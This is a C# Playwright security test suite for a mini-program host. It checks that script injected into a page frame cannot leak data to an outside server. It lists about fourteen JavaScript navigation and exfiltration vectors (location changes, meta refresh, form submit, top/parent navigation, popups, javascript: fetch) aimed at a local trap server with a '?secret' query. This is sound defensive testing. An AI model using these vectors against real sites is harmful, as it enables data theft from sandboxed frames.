using System.Text.Json;
using Alcove.BlackBox.Tests.Hosting;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace Alcove.BlackBox.Tests.Security;

/// <summary>
/// SECURITY(T66, T67): a page frame that was taken over. Nothing of a program's runs in it, so the test puts its script in by the
/// browser's own tools; from there on it has what any script in the frame would have.
/// </summary>
[Collection(SuperApp.Collection)]
public sealed class LeakTests(Browser browser, ITestOutputHelper output)
{
    private const int PerProgram = 3;

    // What each does, and whether the frame's document is another one afterwards, which ends the program.
    private static readonly (string Name, string Script, bool Leaves)[] Navigations =
    [
        ("location", "location.href = TRAP + '/location?secret'", true),
        ("assign", "location.assign(TRAP + '/assign?secret')", true),
        ("replace", "location.replace(TRAP + '/replace?secret')", true),
        ("refresh", "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + TRAP + '/refresh?secret' }))", true),
        ("link", "const a = Object.assign(document.createElement('a'), { href: TRAP + '/link?secret' }); document.body.append(a); a.click()", true),
        ("data", "location.href = 'data:text/html,<h1>elsewhere</h1>'", true),
        ("blob", "location.href = URL.createObjectURL(new Blob(['<h1>elsewhere</h1>'], { type: 'text/html' }))", true),
        ("reload", "location.reload()", true),
        ("javascript", "location.href = 'javascript:fetch(\"' + TRAP + '/javascript\")'", false),
        ("form", "const form = Object.assign(document.createElement('form'), { action: TRAP + '/form', method: 'get' }); document.body.append(form); form.submit()", false),
        ("top", "top.location = TRAP + '/top?secret'", false),
        ("parent", "parent.location = TRAP + '/parent?secret'", false),
        ("popup", "window.open(TRAP + '/popup?secret')", false),
        ("download", "const a = Object.assign(document.createElement('a'), { href: TRAP + '/download?secret', download: 'x' }); document.body.append(a); a.click()", true),
    ];

    [Fact]
    public async Task No_vector_leads_from_a_page_frame_to_a_server()
    {
        await using var trap = new TrapServer();
        await using var program = await StartAsync();
        await using var phone = await OpenAsync(program.Address);
        var attacks = await File.ReadAllTextAsync(Path.Combine(Repository.Root, "tests/Alcove.BlackBox.Tests/WebPrograms/attacks.js"), TestContext.Current.CancellationToken);
        var script = attacks.Replace("new URLSearchParams(location.search).get('port')", $"'{trap.Port}'", StringComparison.Ordinal);
        var frame = await FrameAsync(phone);
        await frame.EvaluateAsync($$"""() => { for (const id of ['title', 'results']) document.body.append(Object.assign(document.createElement('div'), { id })); {{script}} }""");
        await Expect(phone.Top.Locator("#title")).ToHaveTextAsync("done", new() { Timeout = 60_000 });
        var results = JsonSerializer.Deserialize<Dictionary<string, string>>(await phone.Top.Locator("#results").TextContentAsync() ?? "{}")!;
        foreach (var (name, result) in results) output.WriteLine($"{name,-24} {result}");
        Assert.Equal(50, results.Count);
        Assert.DoesNotContain(results, static result => result.Value.StartsWith("GOT THROUGH", StringComparison.Ordinal));
        Assert.Empty(trap.Hits);
        output.WriteLine($"connections that said nothing: {trap.Connections}");
        Assert.Single(phone.Page.Context.Pages);
    }

    [Theory]
    [InlineData("http")]
    [InlineData("https")]
    public async Task No_navigation_leads_from_a_page_frame_to_a_server_and_one_that_leaves_ends_the_program(string scheme)
    {
        await using var trap = new TrapServer();
        // Not in development, where pages of this machine may be framed. A program that fails three times stays closed, so there are several.
        using var folder = new TemporaryFolder();
        folder.CopyProgram("home", "programs/home");
        for (var i = 0; i * PerProgram < Navigations.Length; i++)
        {
            folder.CopyProgram("hello", $"programs/hello{i}");
            await folder.WriteAsync($"programs/hello{i}/alcove.config.json", $$"""{ "appId": "test.hello{{i}}", "name": "Hello", "version": "1.0.0" }""");
        }

        await using var host = CommandProcess.Alcove("start", "--root", folder.Path, "--port", "0");
        var address = (await host.WaitForAsync(@"Open\s+(http://\S+)")).Groups[1].Value;
        var number = 0;
        foreach (var (name, script, leaves) in Navigations)
        {
            await using var phone = await OpenAsync($"{address}/m/test.hello{number++ / PerProgram}");
            await TryToLeaveAsync(phone, $"{scheme}://127.0.0.1:{trap.Port}", script);
            if (leaves) await Expect(phone.Page.Locator("[data-reason='protocol']")).ToContainTextAsync("This page stopped");
            Assert.Single(phone.Page.Context.Pages);
            Assert.StartsWith(address, phone.Page.Url, StringComparison.Ordinal);
            output.WriteLine($"{name,-12} {(leaves ? "ended the program" : "did nothing")}");
            Assert.Empty(trap.Hits);
        }

        output.WriteLine($"connections that said nothing: {trap.Connections}");
        await HearsAsync(trap, scheme);
    }

    [Theory]
    [InlineData("http")]
    [InlineData("https")]
    public async Task No_navigation_leads_out_in_development_either(string scheme)
    {
        await using var trap = new TrapServer();
        await using var program = await StartAsync();
        await using var phone = await OpenAsync(program.Address);
        await TryToLeaveAsync(phone, $"{scheme}://127.0.0.1:{trap.Port}", Navigations[0].Script);
        await Expect(phone.Page.Locator("[data-reason='protocol']")).ToContainTextAsync("This page stopped");
        Assert.Empty(trap.Hits);
        await HearsAsync(trap, scheme);
    }

    private static async Task TryToLeaveAsync(Phone phone, string trap, string script)
    {
        var frame = await FrameAsync(phone);
        try
        {
            await frame.EvaluateAsync($"() => {{ const TRAP = '{trap}'; setTimeout(() => {{ {script} }}, 0); return new Promise((done) => setTimeout(done, 300)) }}");
        }
        catch (PlaywrightException)
        {
            // Its document is gone.
        }
    }

    /// <summary>The trap would have heard it: the same browser reaches it when nothing forbids it.</summary>
    private async Task HearsAsync(TrapServer trap, string scheme)
    {
        await using var phone = await browser.PhoneAsync();
        try
        {
            await phone.OpenAsync($"{scheme}://127.0.0.1:{trap.Port}/control");
        }
        catch (PlaywrightException)
        {
            // It answers nothing.
        }

        Assert.Contains("GET /control HTTP/1.1", trap.Hits);
    }

    private static Task<WrittenProgram> StartAsync() => WrittenProgram.StartAsync(new Dictionary<string, string> { ["pages/index/index.wxml"] = "<view>page</view>", ["pages/index/index.js"] = "Page({})" });

    private async Task<Phone> OpenAsync(string address)
    {
        var phone = await browser.PhoneAsync();
        await phone.OpenAsync(address);
        await phone.ShowsPageAsync("pages/index/index");
        return phone;
    }

    private static async Task<IFrame> FrameAsync(Phone phone) => await (await phone.TopFrame.ElementHandleAsync()).ContentFrameAsync() ?? throw new InvalidOperationException("no frame");
}
